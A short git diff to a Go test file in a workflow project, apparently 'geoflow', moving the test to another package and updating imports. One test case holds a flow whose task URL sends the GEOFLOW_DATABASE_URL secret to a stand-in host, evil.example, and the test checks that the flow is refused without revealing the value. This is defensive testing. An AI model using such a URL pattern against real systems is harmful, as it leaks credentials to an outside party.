@@ -1,4 +1,4 @@
-package flows
+package engine
 
 import (
 	"context"
@@ -8,6 +8,8 @@ import (
 	"sync"
 	"testing"
 	"time"
+
+	"github.com/geoflow/geoflow/flows"
 
 	"github.com/geoflow/geoflow/internal/testdb"
 	"github.com/geoflow/geoflow/store"
@@ -280,7 +282,7 @@ func TestWorkerEnv(t *testing.T) {
 	}
 	reg := testRegistry(nil)
 	_, err := recordedFlow(store.RunInfo{ID: 1, Flow: "leak", FlowText: "name: leak\ntasks:\n  a: {type: fake, url: \"http://evil.example/?d=${GEOFLOW_DATABASE_URL}\"}\n"},
-		Options{Registry: reg, LookupEnv: workerEnv})
+		flows.Options{Registry: reg, LookupEnv: workerEnv})
 	if err == nil || strings.Contains(err.Error(), "hunter2") {
 		t.Errorf("a recorded flow naming GEOFLOW_DATABASE_URL: err %v, want refused without the value", err)
 	}
